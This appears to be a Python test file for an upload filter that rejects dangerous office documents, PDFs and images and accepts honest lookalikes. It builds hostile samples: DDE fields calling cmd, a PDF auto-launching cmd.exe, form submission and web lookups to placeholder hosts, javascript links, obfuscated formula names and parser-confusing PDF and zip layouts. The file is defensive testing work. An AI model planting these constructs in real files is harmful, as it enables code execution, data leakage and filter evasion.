"""What an attacker tried in vain afterwards, and honest files that were refused (SPEC D2)."""

import io
import struct
import zipfile

import pytest
from PIL import Image

from tests.documents.test_checks import (
    ACTIVE,
    BIG_INSIDE,
    DISGUISED,
    FILES_INSIDE,
    LINKED,
    MACROS,
    OTHER,
    inspect,
    refusal,
)
from tests.helpers import files


RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"
BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def word(body: str, part: str = "word__document.xml") -> bytes:
    """A Word document with this paragraph."""
    document = f'<w:document xmlns:w="{files.WORD}"><w:body><w:p>{body}</w:p></w:body></w:document>'
    return files.docx(**{part: document})


def sheet_with(name: str, content: str) -> bytes:
    """A workbook with one more part."""
    buffer = io.BytesIO(files.xlsx())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def book_with(more: str, name: str = "xl/_rels/workbook.xml.rels") -> bytes:
    """A workbook with one more element at the end of a part, which is made if it is missing."""
    with zipfile.ZipFile(io.BytesIO(files.xlsx())) as archive:
        members = {member: archive.read(member).decode() for member in archive.namelist()}
    head, end, tail = members.get(name, files.relationships()).rpartition("</")
    return files.zipped(members | {name: head + more + end + tail})


def relation(kind: str) -> str:
    """An element by which a part leads to another."""
    return f'<Relationship Id="more" Type="{files.RELATIONS}/{kind}" Target="/xl/more.bin"/>'


def computes(inside: str, name: str = "xl/worksheets/sheet2.xml") -> bytes:
    """A workbook with one more sheet, of one row."""
    return sheet_with(
        name, f"<worksheet><sheetData><row><c>{inside}</c></row></sheetData></worksheet>"
    )


def large_book(rows: int = 100_000) -> bytes:
    """A workbook of some 13 MB of honest formulas and texts with line feeds."""
    cells = "".join(
        f'<row><c><f>IF(A{n}&gt;{n * 7919 % 9973},_xlfn.CONCAT(B{n},C{n}),"image")</f>'
        f"<v>{n}</v></c>"
        f"<c><is><t>l&#10;{n}</t></is></c></row>"
        for n in range(rows)
    )
    return computes(f"</c></row>{cells}<row><c>")


FROM_WEB = '("http://a.example")'
CONNECTIONS = (
    f'<Override PartName="/xl/c.xml" ContentType="{files.OOXML}spreadsheetml.connections+xml"/>'
)
SHEET_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"


def typed(kind: str, name: str) -> bytes:
    """A Word document that declares one more part."""
    with zipfile.ZipFile(io.BytesIO(files.docx())) as archive:
        types = archive.read("[Content_Types].xml").decode()
    more = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    return files.docx(**{"[Content_Types].xml": types.replace("</Types>", more), name: "<a/>"})


def odt_with(element: str, address: str) -> bytes:
    """An OpenDocument text with one element that has an address."""
    return files.odt(
        **{
            "content.xml": f'<office:document-content xmlns:office="{files.ODF}office:1.0" '
            f'xmlns:draw="{files.ODF}drawing:1.0" xmlns:text="{files.ODF}text:1.0" '
            f'xmlns:xlink="http://www.w3.org/1999/xlink"><{element} xlink:href="{address}"/>'
            "</office:document-content>"
        }
    )


def pdf_with(annotation: bytes) -> bytes:
    """A PDF written as office programs write it, names in the open."""
    return files.assembled(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[4 0 R]>>",
            annotation,
        ]
    )


def two_readings(*, from_first_byte: bool) -> bytes:
    """Blanks, then a PDF whose table leads those who count from one place to a program.

    Those who count from the other find the table nowhere, look for the objects themselves and take
    the last of each number: a harmless catalogue.
    """
    blanks, objects = b" " * 5, [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/#4caunch/F(cmd.exe)>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ]  # fmt: skip
    content = files.assembled(objects)
    table = content.index(b"xref\n")
    harmless = b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    shift = len(blanks) if from_first_byte else 0
    after = content[table:]
    for place in [table, *(content.index(b"%d 0 obj" % number) for number in (1, 2, 3))]:
        old = b"startxref\n%d" % place if place == table else b"%010d" % place
        new = place + shift + (len(harmless) if place == table else 0)
        after = after.replace(old, b"startxref\n%d" % new if place == table else b"%010d" % new)
    return blanks + content[:table] + harmless + after


def field(code: str) -> bytes:
    """A Word document with this field."""
    return word(BEGIN + RUN.format(code) + END)


def pdf_that(catalogue: bytes, *, of_page: bytes = b"", stream: bytes | None = None) -> bytes:
    """A PDF with more in its catalogue, on its page, and one stream with this in its head."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R%s>>" % of_page,
        b"<<%s/Length 0>>stream\n\nendstream" % (stream or b""),
    ]
    return files.assembled(objects)


def ods_that_computes(formula: str) -> bytes:
    """An OpenDocument sheet with one formula."""
    return files.ods(
        **{
            "content.xml": f'<o:document-content xmlns:o="{files.ODF}office:1.0" '
            f'xmlns:t="{files.ODF}table:1.0"><t:table-cell t:formula="{formula}"/>'
            "</o:document-content>"
        }
    )


WEB = b"<</S/URI/URI(https://ailleurs.example)>>"
OPEN_PDF = files.assembled(
    [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ]
)


def pdf_link(action: bytes) -> bytes:
    """A PDF with a link that does this."""
    return pdf_with(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<%s>>>>" % action)


def with_comment(comment: bytes) -> bytes:
    """A JPEG with these bytes where a comment stands."""
    picture = files.jpg()
    return picture[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + picture[2:]


def colours(mode: str, kind: str) -> bytes:
    """A picture in other colours."""
    buffer = io.BytesIO()
    Image.new(mode, (40, 30)).save(buffer, kind)
    return buffer.getvalue()


HOSTILE = [
    ("dde in pieces", "docx", word(RUN.format("DD") + RUN.format("EAUTO c:\\cmd")), LINKED),
    (
        "dde within another field",
        "docx",
        word(BEGIN + RUN.format(" IF 1=1 ") + BEGIN + RUN.format(" DDE c:\\cmd") + END + END),
        LINKED,
    ),
    ("dde as characters", "docx", word(RUN.format("&#68;DEAUTO c:\\cmd")), LINKED),
    ("dde as an attribute", "docx", word('<w:fldSimple w:instr=" DDE c:\\cmd x"/>'), LINKED),
    ("dde elsewhere", "docx", word(RUN.format("DDEAUTO c:\\cmd"), "doc__document.xml"), LINKED),
    (
        "dde in a workbook",
        "xlsx",
        sheet_with("xl/externalLinks/e.xml", '<x:ddeLink xmlns:x="x" ddeService="cmd"/>'),
        LINKED,
    ),
    ("picture by a field", "docx", field(' INCLUDEPICTURE "https://a.example/b.png" \\d '), LINKED),
    (
        "picture by a field of the foot",
        "docx",
        word('<w:fldSimple w:instr=" includepicture https://a.example/b"/>', "word__footer1.xml"),
        LINKED,
    ),
    (
        "address in a field of its own",
        "docx",
        word(BEGIN + RUN.format(" INCLUDEPICTURE ") + BEGIN + RUN.format('QUOTE "http://a.example"')
             + END + END),
        LINKED,
    ),
    ("text on a share", "docx", field(r' INCLUDETEXT "\\\\ailleurs\\a.docx" '), LINKED),
    ("table on a share", "docx", field(r" LINK Excel.Sheet.8 “\\\\ailleurs\\a.xls” \a "), LINKED),
    ("share in three", "docx", field(r" IMPORT file:///\\ailleurs\a.png "), LINKED),
    ("sheet asks a program", "ods", ods_that_computes("of:=DDE(&quot;cmd&quot;;1;2)"), LINKED),
    ("sheet asks the web", "ods", ods_that_computes("of:=1+webservice (&quot;x&quot;)"), LINKED),
    ("utf-16 unsaid", "docx", files.docx(**{"a.xml": "<a/>".encode("utf-16")}), DISGUISED),
    ("utf-16 unmarked", "docx", files.docx(**{"a.xml": "<a/>".encode("utf-16-le")}), DISGUISED),
    ("macro sheet", "docx", typed("application/vnd.ms-excel.macrosheet+xml", "m.xml"), MACROS),
    (
        "a part under another extension",
        "docx",
        typed(f"{files.OOXML}wordprocessingml.footnotes+xml", "notes.dat"),
        DISGUISED,
    ),
    ("gzip", "docx", files.docx(word__media__image1=b"\x1f\x8b\x08"), FILES_INSIDE),
    ("picture on the web", "odt", odt_with("draw:image", "https://ailleurs.example/x.png"), LINKED),
    ("picture on a share", "odt", odt_with("draw:image", "file://ailleurs/x.png"), LINKED),
    ("section elsewhere", "odt", odt_with("text:section-source", "//ailleurs/x.odt"), LINKED),
    ("pdf share", "pdf", pdf_link(rb"/S/GoToR/F(\\\\ailleurs\\a.pdf)/D[0/Fit]"), ACTIVE),
    ("pdf web", "pdf", pdf_link(b"/S/GoToR/F<</F(http://ailleurs.example/a.pdf)>>"), ACTIVE),
    ("pdf opens a page", "pdf", pdf_that(b"/OpenAction" + WEB), ACTIVE),
    ("pdf's page opens a page", "pdf", pdf_that(b"", of_page=b"/AA<</O %s>>" % WEB), ACTIVE),
    ("pdf opens a page next", "pdf", pdf_that(b"/AA<</WC<</S/Named/Next[%s]>>>>" % WEB), ACTIVE),
    ("pdf thread on a share", "pdf", pdf_link(rb"/S/Thread/F(\\\\ailleurs\\a.pdf)/D 0"), ACTIVE),
    ("pdf stream on a share", "pdf", pdf_that(b"", stream=rb"/F(\\\\ailleurs\\a)"), ACTIVE),
    ("pdf stream on the web", "pdf", pdf_that(b"", stream=b"/F<</F(http://a.example)>>"), ACTIVE),
    ("pdf page on a share", "pdf", pdf_that(b"", stream=rb"/Ref<</F(\\\\ailleurs\\a)>>"), ACTIVE),
    ("pdf link to a script", "pdf", pdf_link(b"/S/URI/URI(javascript:app.alert\\(1\\))"), ACTIVE),
    ("pdf in a file", "pdf", pdf_link(b"/S/GoToE/F(a.pdf)/D[0/Fit]"), ACTIVE),
    ("pdf sends a form", "pdf", pdf_link(b"/S/SubmitForm/F(https://ailleurs.example)"), ACTIVE),
    ("pdf sends, hidden", "pdf", files.pdf(files.hidden_action("/SubmitForm")), ACTIVE),
    ("pdf sends, spelled", "pdf", pdf_link(b"/S/#53ubmitForm/F(https://ailleurs.example)"), ACTIVE),
    ("pdf loads a form", "pdf", pdf_link(b"/S/ImportData/F(a.fdf)"), ACTIVE),
    ("pdf after a page", "pdf", b"\xef\xbb\xbf\n<html>" + files.pdf(), OTHER),
    ("pdf after many blanks", "pdf", b" " * 200 + files.pdf(), OTHER),
    ("pdf after two marks", "pdf", b"\xef\xbb\xbf" * 2 + files.pdf(), OTHER),
    ("pdf of two readings", "pdf", two_readings(from_first_byte=False), ACTIVE),
    ("pdf of two other readings", "pdf", two_readings(from_first_byte=True), ACTIVE),
    ("data of elsewhere", "xlsx", book_with(relation("connections")), LINKED),
    ("its type only", "xlsx", book_with(CONNECTIONS, "[Content_Types].xml"), LINKED),
    ("buttons of its own", "xlsx", book_with(relation("ui/extensibility"), "_rels/.rels"), LINKED),
    ("page beside it", "xlsx", book_with(relation("webextensiontaskpanes"), "_rels/.rels"), LINKED),
    ("page beside it, by its type", "docx",
        typed("application/vnd.ms-office.webextension+xml", "word/w.xml"), LINKED),
    ("asks the web", "xlsx", computes(f"<f>_xlfn.WEBSERVICE{FROM_WEB}</f>"), LINKED),
    ("shows of the web", "xlsx", computes(f"<f>1+_xlfn.image {FROM_WEB}</f>"), LINKED),
    ("asks, by a name", "xlsx", sheet_with(
        "xl/n.xml", f"<a><definedName>WebService{FROM_WEB}</definedName></a>"), LINKED),
    ("asks, spelled", "xlsx", computes(f"<f>_xlfn.WEB&#83;ERVICE{FROM_WEB}</f>"), LINKED),
    ("shows, spelled", "xlsx", computes(f"<f>_xlfn&#x2E;IMAGE{FROM_WEB}</f>"), LINKED),
    ("asks, in pieces", "xlsx", computes(f"<f>WEB<![CDATA[SERV]]>ICE{FROM_WEB}</f>"), LINKED),
    ("asks, cut", "xlsx", computes(f"<f>WEB<!-- -->SERVICE{FROM_WEB}</f>"), LINKED),
    ("table of elsewhere", "xlsx", book_with(relation("queryTable"), SHEET_RELATIONS), LINKED),
    ("book of elsewhere", "xlsx", book_with(relation("externalLink")), LINKED),
    ("object in a sheet", "xlsx", book_with(relation("oleObject"), SHEET_RELATIONS), FILES_INSIDE),
    ("control in a sheet", "xlsx", book_with(relation("control"), SHEET_RELATIONS), LINKED),
    ("wide zip, other members", "docx", files.wide_end(files.docx(), members=2), DISGUISED),
    ("wide zip, other place", "docx", files.wide_end(files.docx(), place=7), DISGUISED),
    ("wide zip, other start", "docx", files.wide_end(files.docx(), start=3), DISGUISED),
    ("wide zip, too much", "docx", files.wide_end(files.docx_members(3000)), BIG_INSIDE),
    ("svg in a photo", "jpg", with_comment(b'<svg xmlns="http://www.w3.org/2000/svg">'), DISGUISED),
]  # fmt: skip


@pytest.mark.parametrize(("extension", "content", "words"), [c[1:] for c in HOSTILE], ids=[c[0] for c in HOSTILE])  # fmt: skip  # noqa: E501
def test_a_trick_is_refused(tmp_path, extension, content, words):
    assert words in refusal(tmp_path, content, extension)


HONEST = [
    ("link to the dde", "docx", word(BEGIN + RUN.format(' HYPERLINK "http://dde.example"') + END)),
    ("picture of a Mac", "docx", field(' INCLUDEPICTURE "/var/a.png" \\* MERGEFORMATINET ')),
    ("picture of a disk", "docx", field(r' INCLUDEPICTURE "C:\\\\Photos\\\\a.png" ')),
    ("link, then a picture", "docx", word(
        BEGIN + RUN.format(' HYPERLINK "https://a.example"') + END
        + BEGIN + RUN.format(' INCLUDEPICTURE "a.png"') + END)),
    ("sheet that adds", "ods", ods_that_computes("of:=SUM([.A1:.A3])")),
    ("fields side by side", "docx", word((BEGIN + RUN.format(" PAGE ") + END) * 2)),
    ("drawing of Office", "docx", files.docx(**{"word__media__image1.emz": b"\x1f\x8b\x08"})),
    ("drawing in a sheet", "xlsx", book_with(relation("drawing"), SHEET_RELATIONS)),
    ("written as it goes", "docx", files.streamed(files.docx())),
    ("written as it goes, zip64", "docx", files.streamed(files.docx(), wide=True)),
    ("book written as it goes, zip64", "xlsx", files.streamed(files.xlsx(), wide=True)),
    ("text written as it goes, zip64", "odt", files.streamed(files.odt(), wide=True)),
    ("zip64 at the end only", "docx", files.wide_end(files.docx())),
    ("pdf after a mark", "pdf", b"\xef\xbb\xbf" + files.pdf()),
    ("pdf after blanks", "pdf", b"\r\n \0\t" + files.pdf()),
    ("pdf after a mark and blanks", "pdf", b"\xef\xbb\xbf\n" + OPEN_PDF),
    ("svg icon", "docx", files.docx(**{"word__media__icon.svg": "<svg/>"})),
    ("text of ddeLink", "xlsx", sheet_with("xl/notes.xml", "<t>ddeLink</t>")),
    ("text of the web", "xlsx", computes("<is><t>WEBSERVICE(…)</t></is><v>_xlfn.IMAGE(1)</v>")),
    ("large sheet", "xlsx", large_book()),
    (
        "empty part of OpenOffice",
        "odt",
        files.odt(**{"Configurations2__accelerator__current.xml": b""}),
    ),
    ("picture inside", "odt", odt_with("draw:image", "Pictures/1.png")),
    ("link to click", "odt", odt_with("text:a", "https://ailleurs.example")),
    ("pdf link to a page", "pdf", pdf_link(b"/S/URI/URI(https://mdn.example/Web/JavaScript)")),
    ("pdf opens at its page", "pdf", pdf_that(b"/OpenAction[3 0 R/Fit]")),
    ("pdf opens at its page by an action", "pdf", pdf_that(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")),
    ("pdf link to a site", "pdf", pdf_link(b"/S/URI/URI(https://exemple.example/Launchpad)")),
    ("pdf note", "pdf", pdf_with(b"<</Subtype/Text/Contents(Formateur HTML/JavaScript)>>")),
    ("pdf beside another", "pdf", pdf_link(b"/S/GoToR/F(annexe.pdf)/D[0/Fit]")),
    ("pixels that spell a tag", "jpg", with_comment(b"\x83<SvG\x11\x97")),
    ("jpg for print", "jpg", colours("CMYK", "JPEG")),
    ("grey scan", "png", colours("1", "PNG")),
]  # fmt: skip


@pytest.mark.parametrize(("extension", "content"), [c[1:] for c in HONEST], ids=[c[0] for c in HONEST])  # fmt: skip  # noqa: E501
def test_an_honest_file_passes(tmp_path, extension, content):
    inspect(tmp_path, content, extension)
